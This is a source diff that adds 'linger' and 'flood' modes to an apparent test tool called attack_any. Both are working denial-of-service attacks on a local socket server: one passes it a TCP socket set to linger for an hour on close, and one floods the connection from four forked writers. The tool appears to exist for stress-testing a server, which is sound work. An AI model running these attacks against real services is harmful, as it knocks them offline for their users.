@@ -9,9 +9,23 @@
  *        attack_any squat NAME FILE
  *          serve NAME ourselves (serv_listen): answer every request,
  *          whatever it asks for, with FILE.  Runs until killed.
+ *        attack_any linger SERVER SECONDS
+ *          for SECONDS: connect, pass inside the connection (send_fd) a
+ *          TCP socket with SO_LINGER and unsent data, close our copies;
+ *          prints "passed K" after the first.  A server that closes the
+ *          connection last (a refused one) blocks in the TCP close for
+ *          the linger time (as long as we live).
+ *        attack_any flood SERVER SECONDS
+ *          for SECONDS: connect, and four processes write into the
+ *          connection as fast as they can (a 4 MB send buffer) until it
+ *          fails; prints "flooding" after the first.  A server that reads
+ *          a refused connection until EAGAIN never stops reading.
  */
 #include "apue.h"
+#include <netinet/in.h>
 #include <sys/resource.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <sys/socket.h>
 #include <sys/un.h>
 
@@ -77,6 +91,105 @@ static int squat(const char *name, const char *file)
 	}
 }
 
+/* A TCP connection to our own listener, which never accepts nor reads;
+ * its unsent data fills the send queue, and SO_LINGER says wait an hour
+ * at close.  The listener stays open (in *listener) as long as we live. */
+static int lingering_socket(int *listener)
+{
+	struct sockaddr_in sin;
+	socklen_t len = sizeof sin;
+	struct linger lg = { .l_onoff = 1, .l_linger = 3600 };
+	char buf[65536];
+	int small = 4096, fd;
+
+	if (*listener < 0) {
+		memset(&sin, 0, sizeof sin);
+		sin.sin_family = AF_INET;
+		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		if ((*listener = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
+		    setsockopt(*listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small) < 0 ||
+		    bind(*listener, (struct sockaddr *)&sin, sizeof sin) < 0 ||
+		    listen(*listener, 1000) < 0)
+			err_sys("tcp listener");
+	}
+	if (getsockname(*listener, (struct sockaddr *)&sin, &len) < 0 ||
+	    (fd = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
+	    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof small) < 0 ||
+	    connect(fd, (struct sockaddr *)&sin, sizeof sin) < 0)
+		err_sys("tcp connect");
+	memset(buf, 'x', sizeof buf);
+	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
+	while (write(fd, buf, sizeof buf) > 0)
+		;
+	if (setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg) < 0)
+		err_sys("SO_LINGER");
+	return fd;
+}
+
+static int linger_attack(const char *server, unsigned seconds)
+{
+	time_t end = time(NULL) + seconds;
+	long passed = 0;
+	int listener = -1;
+
+	while (time(NULL) < end) {
+		/* Ready before we connect: passed before root hangs up. */
+		int tcp = lingering_socket(&listener), clifd = cli_conn(server);
+
+		if (clifd >= 0 && send_fd(clifd, tcp) == 0 && ++passed == 1) {
+			printf("passed %ld\n", passed);
+			fflush(stdout);
+		}
+		close(tcp);
+		if (clifd >= 0) {
+			forget_name(clifd);
+			close(clifd);
+		}
+		nanosleep(&(struct timespec){ .tv_nsec = 100000000 }, NULL);
+	}
+	printf("passed %ld\n", passed);
+	return 0;
+}
+
+static int flood_attack(const char *server, unsigned seconds)
+{
+	time_t end = time(NULL) + seconds;
+	int big = 4 << 20, first = 1;
+
+	while (time(NULL) < end) {
+		int clifd = cli_conn(server);
+		pid_t pid;
+
+		if (clifd < 0) {
+			sleep(1);
+			continue;
+		}
+		(void)setsockopt(clifd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
+		forget_name(clifd);
+		for (int i = 0; i < 4; i++) {
+			if ((pid = fork()) < 0)
+				err_sys("fork");
+			if (pid == 0) {
+				static char buf[65536];
+
+				alarm(seconds);
+				while (write(clifd, buf, sizeof buf) > 0)
+					;
+				_exit(0);
+			}
+		}
+		close(clifd);
+		if (first) {
+			printf("flooding\n");
+			fflush(stdout);
+			first = 0;
+		}
+		while (wait(NULL) > 0)
+			;
+	}
+	return 0;
+}
+
 int main(int argc, char *argv[])
 {
 	signal(SIGPIPE, SIG_IGN);
@@ -84,7 +197,13 @@ int main(int argc, char *argv[])
 		return hold(argv[2], atol(argv[3]), (unsigned)atoi(argv[4]));
 	if (argc == 4 && strcmp(argv[1], "squat") == 0)
 		return squat(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "linger") == 0)
+		return linger_attack(argv[2], (unsigned)atoi(argv[3]));
+	if (argc == 4 && strcmp(argv[1], "flood") == 0)
+		return flood_attack(argv[2], (unsigned)atoi(argv[3]));
 	fprintf(stderr, "usage: attack_any hold SERVER N SECONDS\n"
-			"       attack_any squat NAME FILE\n");
+			"       attack_any squat NAME FILE\n"
+			"       attack_any linger SERVER SECONDS\n"
+			"       attack_any flood SERVER SECONDS\n");
 	return 2;
 }
